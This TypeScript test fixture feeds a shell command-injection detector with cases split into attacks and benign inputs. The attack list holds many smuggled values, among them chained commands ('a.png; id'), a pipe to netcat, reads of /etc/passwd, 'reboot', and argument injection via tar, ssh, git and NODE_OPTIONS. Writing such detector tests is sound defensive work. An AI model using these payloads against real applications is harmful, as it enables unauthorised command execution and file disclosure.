import type { OperationOf } from '@riposte/contract'
import { fill } from './payloads.ts'

/** One command as an app builds it, with `{}` where it puts the value. */
export interface Case {
  readonly says: string
  /** A text for the shell, or a program with its arguments. */
  readonly command: string | readonly [file: string, ...args: string[]]
  readonly value: string
  /** What the app puts into the command; absent: the value as it came. */
  readonly used?: string
}

const bare = 'convert {} out.png'
const single = "grep '{}' app.log"
const inside = "git log --grep='fix {} please' -n 5"
const double = 'grep "{}" app.log'

/** The value changes what is run, or how. */
export const attacks: readonly Case[] = [
  { says: 'a second command', command: bare, value: 'a.png; id' },
  { says: 'a second command without a blank', command: bare, value: 'a;id' },
  { says: 'a command behind a line break', command: bare, value: 'a.png\nid' },
  { says: 'a line break alone before a word', command: bare, value: '\nid' },
  { says: 'a pipe', command: bare, value: 'a.png | nc host 1' },
  { says: 'a condition', command: bare, value: 'a.png && id' },
  { says: 'another condition', command: bare, value: 'a.png || id' },
  { says: 'a command in the background', command: bare, value: 'a.png & id' },
  { says: 'a URL with a query that nobody quoted', command: 'curl {} -o x', value: 'http://a.example/?a=1&b=2' },
  { says: 'a substitution', command: bare, value: '$(id)' },
  { says: 'a substitution with backquotes', command: bare, value: '`id`' },
  { says: 'a substitution in double quotes', command: double, value: '$(id)' },
  { says: 'backquotes in double quotes', command: double, value: 'x`id`' },
  { says: 'a variable', command: bare, value: '$HOME' },
  { says: 'a variable in braces, in double quotes', command: double, value: '${IFS}' },
  { says: 'arithmetic', command: bare, value: '$((1+1))' },
  { says: 'a process substitution', command: bare, value: '<(id)' },
  { says: 'a redirect', command: bare, value: 'a.png > /etc/passwd' },
  { says: 'a redirect from a file', command: bare, value: 'x</etc/passwd' },
  { says: 'a second word', command: bare, value: 'a.png b.png' },
  { says: 'words parted by a tab', command: bare, value: 'a.png\tb.png' },
  { says: 'a glob', command: bare, value: '*' },
  { says: 'a glob in a name', command: bare, value: 'a?.png' },
  { says: 'the home folder', command: bare, value: '~/x' },
  { says: 'braces', command: bare, value: '{a,b}.png' },
  { says: 'a comment', command: bare, value: 'a.png #' },
  { says: 'single quotes that are left', command: single, value: "x'; id; '" },
  { says: 'single quotes that are left for a substitution', command: single, value: "'$(id)'" },
  { says: 'single quotes that are left for a word', command: single, value: "x' /etc/passwd 'y" },
  { says: 'an apostrophe that nobody escaped', command: single, value: "O'Brien" },
  { says: 'a lone apostrophe', command: single, value: "'" },
  { says: 'single quotes that are not beside the value', command: inside, value: "' ; id ; '" },
  { says: 'double quotes that are left', command: double, value: 'x"; id; "' },
  { says: 'a quote in double quotes', command: double, value: '5" disk' },
  { says: 'a backslash that takes the quote', command: 'grep "{}" "b.log"', value: 'x\\' },
  { says: 'quotes where none were', command: bare, value: "'a b'" },
  { says: 'the inside of a substitution', command: 'echo "$(basename {})"', value: 'a; id' },
  { says: 'a comment that is left', command: 'ls # by {}\necho done', value: 'x\nid' },
  { says: 'a here-document that is ended', command: 'cat <<EOF\n{}\nEOF', value: 'x\nEOF\nid' },
  { says: 'a substitution in a here-document', command: 'cat <<EOF\n{}\nEOF', value: '$(id)' },
  { says: 'the whole command', command: '{}', value: 'cat /etc/passwd' },
  { says: 'the whole command in one word', command: '{}', value: 'reboot' },
  { says: 'the program, by its path', command: '{} --version', value: '/tmp/evil' },
  { says: 'a variable for the program', command: '{} node app.js', value: 'NODE_OPTIONS=--require=/tmp/x.js' },
  { says: 'an option', command: 'curl {}', value: '--output=/tmp/x' },
  { says: 'an option in quotes', command: "curl '{}'", value: '-o/tmp/x' },
  { says: 'an option with blanks in quotes', command: 'ssh "{}" uptime', value: '-oProxyCommand=touch x' },
  { says: 'an option with a value that goes on', command: 'tar cf x.tar {}', value: '--checkpoint-action=exec=id' },
  { says: 'code in quotes for a shell', command: "bash -c 'ls {}'", value: 'a; id' },
  { says: 'words in quotes for a shell', command: "sudo -u app sh -c 'ls {}'", value: 'a b' },
  { says: 'quotes in quotes for a shell', command: 'sh -c "ls \'{}\'"', value: "a'; id; 'b" },
  { says: 'code for eval', command: "eval 'ls {}'", value: 'a; id' },
  { says: 'a shell without a shell', command: ['/bin/sh', '-c', 'ls {}'], value: 'a; id' },
  { says: 'a shell behind another program', command: ['env', 'A=b', 'bash', '-lc', 'ls {}'], value: '$(id)' },
  { says: 'the file that is run', command: ['{}', '--help'], value: '/tmp/evil' },
  { says: 'an argument that is an option', command: ['git', 'clone', '{}', 'x'], value: '--upload-pack=id' },
  { says: 'an option that the app goes on with', command: ['git', 'clone', '{}=5'], value: '--depth' },
  { says: 'code for Node', command: ['node', '-e', "console.log('{}')"], value: "'+process.env+'" },
  {
    says: 'code for Python where a number was meant',
    command: ['python3', '-c', 'print({})'],
    value: '__import__("os")',
  },
  { says: 'the whole code', command: ['perl', '-e', '{}'], value: 'system(1)' },
  { says: 'a second command for cmd.exe', command: ['cmd.exe', '/c', 'dir {}'], value: 'a & calc' },
  { says: 'a variable in quotes for cmd.exe', command: ['cmd.exe', '/d', '/s', '/c', 'dir "{}"'], value: '%PATH%' },
  { says: 'quotes that are left in cmd.exe', command: ['cmd', '/c', 'dir "{}"'], value: 'x" & calc & "' },
  { says: 'a second command for PowerShell', command: ['powershell.exe', '-Command', 'Get-Item {}'], value: 'a; calc' },
  { says: 'typographic quotes in PowerShell', command: ['pwsh', '-c', "Get-Item '{}'"], value: 'x’; calc; ‘y' },
  { says: 'decoded from a URL', command: bare, value: 'a%3B%20id', used: 'a; id' },
  { says: 'decoded from a URL twice', command: bare, value: 'a%253B%2520id', used: 'a; id' },
  { says: 'decoded from base64', command: bare, value: 'YS5wbmc7IGlk', used: 'a.png; id' },
  { says: 'decoded from hex', command: bare, value: '612e706e673b206964', used: 'a.png; id' },
  { says: 'decoded from HTML', command: bare, value: 'a&#59; id', used: 'a; id' },
  { says: 'taken out of JSON', command: bare, value: '{"f":["a; id"]}', used: 'a; id' },
  { says: 'in a JSON string with escapes', command: bare, value: 'a\\u003b id', used: 'a; id' },
  { says: 'normalised from wide characters', command: bare, value: 'a； id', used: 'a; id' },
  { says: 'in another case', command: bare, value: 'A; TOUCH X', used: 'a; touch x' },
  { says: 'trimmed', command: bare, value: '  a; id \n', used: 'a; id' },
  { says: 'freed of quotes', command: bare, value: '"a"; \'id\'', used: 'a; id' },
  { says: 'freed of blanks', command: bare, value: 'a; i d', used: 'a;id' },
  { says: 'freed of semicolons', command: bare, value: 'a.png; touch x', used: 'a.png touch x' },
  { says: 'cut off', command: bare, value: 'picture.png; touch /tmp/x; and more', used: 'picture.png; touch /tmp/x' },
  { says: 'its last part', command: bare, value: 'files/2024/a;id', used: 'a;id' },
  { says: 'one of several', command: bare, value: 'a.png,b;id,c.png', used: 'b;id' },
]

/** The value stays one argument, or is not there at all. */
export const benign: readonly Case[] = [
  { says: 'a word', command: bare, value: 'photo.png' },
  { says: 'a path', command: bare, value: '/srv/app/2024-01/a_b.png' },
  { says: 'a URL', command: 'curl {} -o x', value: 'https://a.example:8080/b/c.png' },
  { says: 'an address', command: 'ping -c 1 {}', value: '192.168.0.1' },
  { says: 'a mail address', command: 'id {}', value: 'ann+news@example.com' },
  { says: 'a number below zero', command: 'renice {} 5', value: '-5' },
  { says: 'a lone dash', command: 'cat {}', value: '-' },
  { says: 'blanks and operators in single quotes', command: single, value: 'a b; c && d | e > f' },
  { says: 'a substitution in single quotes', command: single, value: '$(id) `id` $HOME' },
  { says: 'a backslash in single quotes', command: single, value: 'C:\\dir\\' },
  { says: 'quotes that are not beside the value', command: inside, value: 'the ; and & of it' },
  { says: 'blanks and operators in double quotes', command: double, value: "it's a b; c && d | e > f" },
  { says: 'a price in double quotes', command: double, value: 'costs 5 $' },
  { says: 'a path of Windows in double quotes', command: double, value: 'C:\\Users\\ann' },
  { says: 'an apostrophe, escaped', command: single, value: "O'Brien", used: "O'\\''Brien" },
  { says: 'an apostrophe, quoted otherwise', command: single, value: "O'Brien", used: `O'"'"'Brien` },
  { says: 'an attack, escaped', command: single, value: "'; id; '", used: "'\\''; id; '\\''" },
  { says: 'backslashes before all that acts', command: bare, value: 'a b;c', used: 'a\\ b\\;c' },
  { says: 'double quotes, escaped', command: double, value: 'say "$5" `x`', used: 'say \\"\\$5\\" \\`x\\`' },
  { says: 'a quote of the other kind', command: single, value: '5" disk' },
  { says: 'a here-document', command: 'cat <<EOF\n{}\nEOF', value: "it's; a & b | c" },
  { says: 'a here-document that expands nothing', command: "cat <<'EOF'\n{}\nEOF", value: '$(id) `id`\nEOFx' },
  { says: 'a comment', command: 'ls # by {}\necho done', value: 'Ann; and $(id)' },
  {
    says: 'JSON in single quotes',
    command: 'curl -d \'{"q":"{}"}\' http://x',
    value: 'a "b"; c',
    used: 'a \\"b\\"; c',
  },
  { says: 'a word of the app’s command', command: 'ls -la /srv', value: 'ls' },
  { says: 'a path of the app’s command', command: 'ls -la /srv', value: '/srv' },
  { says: 'a sign of the app’s command', command: 'ps aux | grep node', value: '|' },
  { says: 'a line of the app’s command that was searched for', command: "git log --grep='{}'", value: 'git log' },
  { says: 'letters that meet in the app’s command', command: 'cat data big.txt', value: 'a b' },
  { says: 'a quote, typed alone', command: "grep 'a' 'b'", value: "'" },
  { says: 'what looks like an option, behind --', command: "grep -- '{}' app.log", value: '--help' },
  { says: 'what looks like an option, for echo', command: "echo '{}'", value: '--help me' },
  { says: 'what looks like an option, as a message', command: "git commit -m '{}'", value: '-fix the build' },
  { says: 'what looks like an option, within a word', command: 'ls x{}', value: '-la' },
  { says: 'a list with dashes', command: "grep '{}' app.log", value: '- one; - two' },
  { says: 'the value of an option', command: 'convert --title={} a.png', value: '-draft-' },
  { says: 'the number of a redirect', command: 'ls 2>&1', value: '2' },
  { says: 'letters beyond ASCII', command: bare, value: '日本語-naïve-🙂.png' },
  { says: 'an argument of a program', command: ['convert', '{}', 'x.png'], value: 'a b; $(id) `id` | c.png' },
  { says: 'an argument with a line break', command: ['git', 'commit', '-m', '{}'], value: "it's\n-- done; && more" },
  { says: 'a number below zero, as an argument', command: ['renice', '{}'], value: '-5.5' },
  { says: 'an argument behind --', command: ['grep', '--', '{}', 'x'], value: '--help' },
  { says: 'a parameter of a script', command: ['sh', '-c', 'ls "$1"', 'sh', '{}'], value: '--all; id' },
  { says: 'a word of the program’s name', command: ['/usr/bin/git', 'status'], value: 'git' },
  { says: 'a text in code', command: ['node', '-e', 'console.log("{}")'], value: "it's a b; c" },
  { says: 'a text in code, escaped', command: ['node', '-e', 'console.log("{}")'], value: 'a "b"', used: 'a \\"b\\"' },
  { says: 'a number in code', command: ['python3', '-c', 'print({})'], value: '-4.2' },
  { says: 'text in quotes for a shell', command: 'sh -c "grep \'{}\' x"', value: 'a b; c' },
  { says: 'a path for cmd.exe', command: ['cmd.exe', '/c', 'dir {}'], value: 'C:\\Users\\ann' },
  { says: 'text in quotes for cmd.exe', command: ['cmd.exe', '/c', 'findstr "{}" x'], value: 'a & b | 100%' },
  { says: 'text in quotes for PowerShell', command: ['pwsh', '-c', "Get-Item '{}'"], value: 'a; $b & c' },
  {
    says: 'an apostrophe for PowerShell',
    command: ['pwsh', '-c', "Get-Item '{}'"],
    value: "O'Brien",
    used: "O''Brien",
  },
  { says: 'a blank that became a dash', command: bare, value: 'Hello; World!', used: 'hello-world' },
  { says: 'a name encoded for a URL', command: 'curl http://x/{}', value: 'a b;c', used: 'a%20b%3Bc' },
]

/** The operation of a case, as a detector gets it. */
export function caseOperation({ command, value, used }: Case): OperationOf<'shell' | 'exec'> {
  const put = (text: string): string => fill(text, used ?? value)
  if (typeof command === 'string') return { kind: 'shell', command: put(command) }
  const [file, ...args] = command
  return { kind: 'exec', file: put(file), args: args.map(put) }
}
